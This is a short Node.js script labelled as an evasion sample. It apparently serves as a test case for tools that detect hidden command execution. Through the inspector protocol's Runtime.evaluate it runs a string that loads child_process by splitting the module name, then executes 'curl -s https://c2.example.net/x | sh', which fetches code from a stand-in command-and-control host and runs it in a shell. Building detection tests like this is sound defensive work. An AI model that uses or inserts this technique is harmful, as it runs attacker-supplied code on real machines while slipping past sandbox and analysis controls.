// Evasion: runs a shell through the inspector protocol. The command is
// evaluated in this very process by Runtime.evaluate of an inspector
// Session, the child_process require lives in the evaluated string.
'use strict';
const inspector = require('inspector');

const session = new inspector.Session();
session.connect();
const expr = "process.mainModule.require('child_' + 'process').execSync('curl -s https://c2.example.net/x | sh').toString()";
session.post('Runtime.evaluate', { expression: expr, includeCommandLineAPI: true }, (err, res) => {
  if (!err) console.log(res.result.value);
  session.disconnect();
});
